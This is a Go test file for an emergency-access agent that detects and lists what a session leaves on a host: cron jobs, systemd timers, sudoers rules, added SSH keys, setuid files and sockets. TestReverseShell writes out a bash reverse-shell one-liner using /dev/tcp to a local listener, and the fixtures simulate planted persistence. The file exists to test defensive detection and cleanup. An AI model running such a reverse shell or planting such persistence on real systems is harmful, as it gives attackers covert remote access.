// SPDX-License-Identifier: Apache-2.0

package session_test

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"cacert.org/emergency/pkg/gitrepo/gittree"
	"cacert.org/emergency/services/agent/session"
)

// layout writes files below a root.
func layout(t testing.TB, root string, files map[string]string) {
	t.Helper()
	for path, text := range files {
		full := filepath.Join(root, path)
		must(t, os.MkdirAll(filepath.Dir(full), 0o755))
		must(t, os.WriteFile(full, []byte(text), 0o644))
	}
}

// leftHost is a host with a file system of its own to be looked at.
func leftHost(t *testing.T, change func(*session.Config)) *host {
	return newHost(t, kind{cgroup: session.NoCgroup}, func(c *session.Config) {
		c.Folders = []string{"/etc", "/home/console"}
		layout(t, c.Root, map[string]string{
			"etc/passwd":                         "root:x:0:0::/root:/bin/sh\nops:x:7:7::/home/ops:/bin/sh\nnone:x:8:8::/nonexistent:/bin/false\n",
			"etc/crontab":                        "0 5 * * * root true\n",
			"etc/sudoers":                        "root ALL=(ALL) ALL\n",
			"etc/hosts":                          "127.0.0.1 localhost\n",
			"etc/cron.d/old":                     "old\n",
			"etc/systemd/system/ssh.service":     "[Service]\n",
			"home/console/.profile":              "true\n",
			"home/ops/.ssh/authorized_keys":      "# none\n",
			"home/console/tree/www/index.php":    "<?php\n",
			"home/console/notes/a":               "a",
			"var/spool/cron/atjobs/a0000101.old": "true\n",
		})
		c.Except = []string{filepath.Join(c.Root, "home/console/tree")}
		if change != nil {
			change(c)
		}
	})
}

func (h *host) left() []session.Item {
	h.Helper()
	items, err := h.Leftovers(h.Context(), grant)
	must(h, err)
	return items
}

// want: exactly these items of a kind, each by the end of its name and a part of its detail.
func (h *host) wantItems(items []session.Item, kind session.Kind, want ...[2]string) {
	h.Helper()
	var got []session.Item
	for _, i := range items {
		if i.Kind == kind {
			got = append(got, i)
		}
	}
	for _, w := range want {
		at := slices.IndexFunc(got, func(i session.Item) bool { return strings.HasSuffix(i.Name, w[0]) && strings.Contains(i.Detail, w[1]) })
		if at < 0 {
			h.Errorf("no %s %q with %q in %+v", kind, w[0], w[1], got)
			continue
		}
		got = slices.Delete(got, at, at+1)
	}
	if len(got) > 0 {
		h.Errorf("%s besides what was expected: %+v", kind, got)
	}
}

// TestLeftovers (N20): what a session leaves outside of its processes and outside of the tree is listed, each thing as what it
// is, and nothing else.
func TestLeftovers(t *testing.T) {
	t.Parallel()
	h := leftHost(t, nil)
	must(t, h.OpenAccess(t.Context(), h.access()))
	root := h.cfg.Root
	public, _ := key(t)
	layout(t, root, map[string]string{
		"etc/cron.d/job":                                   "* * * * * root sh\n",
		"etc/crontab":                                      "* * * * * root sh\n",
		"var/spool/cron/atjobs/a0000201.new":               "sh\n",
		"var/spool/cron/crontabs/ops":                      "* * * * * sh\n",
		"etc/systemd/system/backdoor.timer":                "[Timer]\n",
		"etc/systemd/system/ssh.service.d/x.conf":          "[Service]\n",
		"home/ops/.config/systemd/user/x.service":          "[Service]\n",
		"run/user/7/systemd/transient/run-1.timer":         "[Timer]\n",
		"etc/sudoers.d/x":                                  "ops ALL=(ALL) NOPASSWD: ALL\n",
		"home/ops/.ssh/authorized_keys":                    "# none\n" + public,
		"root/.ssh/authorized_keys2":                       `command="sh" ` + public,
		"etc/hosts":                                        "127.0.0.2 localhost\n",
		"home/console/dump/a":                              "a",
		"home/console/dump/b/c":                            "c",
		"home/console/tree/www/new.php":                    "<?php\n",
		"home/ops/not-looked-at-because-not-in-the-folder": "x",
	})
	must(t, os.Symlink("/lib/systemd/system/x.service", root+"/etc/systemd/system/x.service"))
	must(t, os.Chmod(root+"/home/console/dump/a", 0o755|os.ModeSetuid))
	must(t, os.Chmod(root+"/home/console/.profile", 0o755))
	must(t, os.Remove(root+"/home/console/notes/a"))
	must(t, os.Remove(root+"/etc/cron.d/old"))
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer tcp.Close()
	six, err := net.Listen("tcp", "[::1]:0")
	must(t, err)
	defer six.Close()
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	defer udp.Close()
	unix, err := net.Listen("unix", h.dir+"/unix")
	must(t, err)
	defer unix.Close()
	_, err = h.End(t.Context(), grant, "test")
	must(t, err)
	items := h.left()
	h.wantItems(items, session.KindTimer, [2]string{"/etc/cron.d/job", "new"}, [2]string{"/etc/crontab", "changed"}, [2]string{"/etc/cron.d/old", "gone"},
		[2]string{"/a0000201.new", "new"}, [2]string{"/crontabs/ops", "new"}, [2]string{"/backdoor.timer", "new"}, [2]string{"/ssh.service.d/x.conf", "new"},
		[2]string{"/etc/systemd/system/x.service", "new"}, [2]string{"/user/x.service", "new"}, [2]string{"/run-1.timer", "new"})
	h.wantItems(items, session.KindSudo, [2]string{"/etc/sudoers.d/x", "new"})
	h.wantItems(items, session.KindKey, [2]string{"", "new"}, [2]string{"", "new"})
	h.wantItems(items, session.KindFile, [2]string{"/etc/hosts", "changed"}, [2]string{"/dump", "2 files and folders below"}, [2]string{"/dump/a", "RUNS WITH"},
		[2]string{"/.profile", "changed"}, [2]string{"/notes/a", "gone"}, [2]string{"/etc/sudoers.d", "new folder"}, [2]string{"/etc/systemd/system/ssh.service.d", "new folder"})
	for _, i := range items {
		if i.Kind == session.KindKey && !strings.Contains(i.Name, "ssh-ed25519 SHA256:") {
			t.Errorf("a key without its fingerprint: %+v", i)
		}
	}
	sockets := fmt.Sprint(filter(items, session.KindSocket)) // others on this machine listen, too
	for _, want := range []string{"tcp " + tcp.Addr().String(), "tcp " + six.Addr().String(), "udp " + udp.LocalAddr().String(), "unix " + h.dir + "/unix"} {
		if !strings.Contains(sockets, want+" ") && !strings.Contains(sockets, want+"}") && !strings.Contains(sockets, want) {
			t.Errorf("%s is not in %s", want, sockets)
		}
	}
	h.wantItems(items, session.KindUnseen, [2]string{"other processes of account " + h.cfg.Account, "shared"})
	again := h.left()
	if a, b := filter(items, session.KindFile), filter(again, session.KindFile); !slices.Equal(a, b) {
		t.Errorf("a second look: %+v, %+v", a, b)
	}
}

func filter(items []session.Item, kind session.Kind) []session.Item {
	return slices.DeleteFunc(slices.Clone(items), func(i session.Item) bool { return i.Kind != kind })
}

// TestNothingLeft: a session that did nothing left nothing.
func TestNothingLeft(t *testing.T) {
	t.Parallel()
	h := leftHost(t, nil)
	x := h.opened()
	x.say("exit")
	x.wait()
	items := h.left()
	for _, kind := range []session.Kind{session.KindFile, session.KindKey, session.KindProcess, session.KindSudo, session.KindTimer} {
		h.wantItems(items, kind)
	}
}

// TestLeftoversOverRestart: what was there before is known to the agent's next start.
func TestLeftoversOverRestart(t *testing.T) {
	t.Parallel()
	h := leftHost(t, nil)
	must(t, h.OpenAccess(t.Context(), h.access()))
	layout(t, h.cfg.Root, map[string]string{"etc/cron.d/job": "x"})
	h.stop()
	h.start()
	h.wantItems(h.left(), session.KindTimer, [2]string{"/etc/cron.d/job", "new"})
}

// TestCutLoudly: a list that is too long says so, and so does a folder that is too large.
func TestCutLoudly(t *testing.T) {
	t.Parallel()
	h := leftHost(t, func(c *session.Config) { c.MaxItems, c.MaxFiles = 20, 60 })
	must(t, h.OpenAccess(t.Context(), h.access()))
	for i := range 100 {
		layout(t, h.cfg.Root, map[string]string{fmt.Sprintf("etc/cron.d/job%d", i): "x", fmt.Sprintf("etc/file%d", i): "x"})
	}
	items := h.left()
	last := items[len(items)-1]
	if len(items) != 20 || last.Kind != session.KindUnseen || !strings.Contains(last.Detail, "more are not listed") {
		t.Errorf("%d items, the last is %+v", len(items), last)
	}
	h.cfg.MaxItems = 1000
	h.stop()
	h.start()
	if unseen := fmt.Sprint(filter(h.left(), session.KindUnseen)); !strings.Contains(unseen, "more than 60 files") {
		t.Errorf("not looked at: %s", unseen)
	}
}

// TestNotLookedAt: what the agent may not read is an item, once for each folder and not for each file.
func TestNotLookedAt(t *testing.T) {
	t.Parallel()
	if os.Geteuid() == 0 {
		asNobody(t)
		return
	}
	h := leftHost(t, func(c *session.Config) {
		must(t, os.Chmod(c.Root+"/home/ops", 0))
		must(t, os.Chmod(c.Root+"/etc/sudoers", 0))
		must(t, os.MkdirAll(c.Root+"/etc/secret", 0o755))
		must(t, os.Chmod(c.Root+"/etc/secret", 0))
		must(t, os.MkdirAll(c.Root+"/var/spool/cron/crontabs", 0o755))
		must(t, os.Chmod(c.Root+"/var/spool/cron/crontabs", 0))
		t.Cleanup(func() {
			for _, d := range []string{"/home/ops", "/etc/secret", "/var/spool/cron/crontabs"} {
				must(t, os.Chmod(c.Root+d, 0o755))
			}
		})
	})
	must(t, h.OpenAccess(t.Context(), h.access()))
	h.wantItems(h.left(), session.KindUnseen, [2]string{"/home/ops", "permission denied"}, [2]string{"/etc/secret", "permission denied"},
		[2]string{"/var/spool/cron/crontabs", "permission denied"}, [2]string{"other processes of account " + h.cfg.Account, "shared"})
}

// TestProcessesOfTheAccount: where the account is the console's alone, whatever it runs that was not there before is listed,
// though it is none of the session's, such as the job of another service.
func TestProcessesOfTheAccount(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		missing(t, "this is no root: processes of an account of its own are NOT TESTED")
		return
	}
	h := newHost(t, kind{name: "other account", cgroup: session.NoCgroup, account: "nobody"}, func(c *session.Config) { c.Shared = false })
	must(t, h.OpenAccess(t.Context(), h.access()))
	x := h.onTerminal([]string{"/bin/sh", "-c", "trap '' HUP; setsid sh -c 'echo $$ > " + h.openFolder() + "/pid; exec sleep 1000' </dev/null >/dev/null 2>&1 &"}, []string{"PATH=" + os.Getenv("PATH")})
	x.wait()
	pid := h.pidIn("pid")
	defer func() { _ = syscall.Kill(pid, syscall.SIGKILL) }()
	_, err := h.End(t.Context(), grant, "test")
	must(t, err)
	if !alive(pid) {
		t.Error("a process that is none of the session's was killed")
	}
	h.wantProcess(h.left(), pid, "of the account")
}

func (h *host) wantProcess(items []session.Item, pid int, detail string) {
	h.Helper()
	for _, i := range items {
		if i.Kind == session.KindProcess && strings.HasPrefix(i.Name, fmt.Sprintf("%d ", pid)) && strings.Contains(i.Detail, detail) {
			return
		}
	}
	h.Errorf("process %d (%s) is not in %+v", pid, detail, filter(items, session.KindProcess))
}

// TestReverseShell (N20): a shell that serves somebody else's connection is one of the session's processes: listed while the
// session is open, and gone with it.
func TestReverseShell(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, k kind) {
		h := newHost(t, k, nil)
		l, err := net.Listen("tcp", "127.0.0.1:0")
		must(t, err)
		defer l.Close()
		x := h.opened()
		_, port, err := net.SplitHostPort(l.Addr().String())
		must(t, err)
		x.say("setsid nohup bash -c 'echo $$ > " + h.openFolder() + "/pid; exec bash -i >& /dev/tcp/127.0.0.1/" + port + " 0>&1' >/dev/null 2>&1 &")
		conn, err := l.Accept()
		must(t, err)
		defer conn.Close()
		pid := h.pidIn("pid")
		h.wantProcess(h.left(), pid, "of the session")
		_, err = h.End(t.Context(), grant, "test")
		must(t, err)
		_, err = io.Copy(io.Discard, conn) // until the other side is closed
		t.Logf("the connection ended: %v", err)
		if alive(pid) {
			t.Error("it survived")
		}
	})
}

// TestChangedFiles and what is read of it.
func TestChangedFiles(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	layout(t, root, map[string]string{"a": "one", "d/b": "two", "secret": "s", "big": strings.Repeat("x", session.MaxFile+1)})
	must(t, os.Symlink("/etc/passwd", root+"/link"))
	must(t, os.Symlink("/etc", root+"/out"))
	before := []gittree.Entry{{Path: "a", Mode: "100644", ID: "1"}, {Path: "gone", Mode: "100644", ID: "2"}, {Path: "same", Mode: "100644", ID: "3"}}
	now := []gittree.Entry{{Path: "a", Mode: "100755", ID: "1"}, {Path: "d/b", Mode: "100644", ID: "4"}, {Path: "link", Mode: "120000", ID: "5"}, {Path: "same", Mode: "100644", ID: "3"},
		{Path: "out/passwd", Mode: "100644", ID: "6"}, {Path: "big", Mode: "100644", ID: "7"}, {Path: "out", Mode: "100644", ID: "8"}}
	if got := session.Changed(before, now); !slices.Equal(got, []string{"a", "big", "d/b", "gone", "link", "out", "out/passwd"}) {
		t.Errorf("changed %v", got)
	}
	got, err := session.ReadFiles(t.Context(), root, now, []string{"a", "d/b", "gone", "link", "secret", "../x"})
	must(t, err)
	if text := fmt.Sprintf("%s", got); text != "[{a 100755 one} {d/b 100644 two} {gone  } {link 120000 /etc/passwd} {secret  } {../x  }]" {
		t.Errorf("read %s", text)
	}
	for _, path := range []string{"out/passwd", "out", "big"} {
		if got, err := session.ReadFiles(t.Context(), root, now, []string{path}); err == nil || !strings.Contains(err.Error(), path) {
			t.Errorf("%s: read %d, %v", path, len(got), err)
		}
	}
}
